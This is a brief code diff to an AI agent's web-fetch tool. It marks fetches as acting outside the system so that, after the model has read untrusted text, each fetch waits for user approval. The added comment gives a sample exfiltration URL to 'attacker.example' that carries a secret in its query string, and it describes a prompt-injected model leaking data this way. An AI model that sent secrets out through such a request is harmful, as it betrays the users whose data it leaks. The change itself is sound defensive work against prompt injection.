@@ -170,6 +170,9 @@ export function createWebFetchTool(options: WebFetchOptions = {}): Tool {
       required: ['url'],
     },
     untrustedResult: true,
+    // A GET carries data out in its URL: once a turn read text nobody here wrote, a hijacked model could
+    // fetch `https://attacker.example/?d=<secret>` — in a tainted turn each fetch waits for a yes (§17).
+    actsOutside: true,
     async run(args, ctx) {
       const url = typeof (args as { url?: unknown } | null)?.url === 'string' ? (args as { url: string }).url.trim() : '';
       if (!url) return 'Error: web_fetch needs a url.';
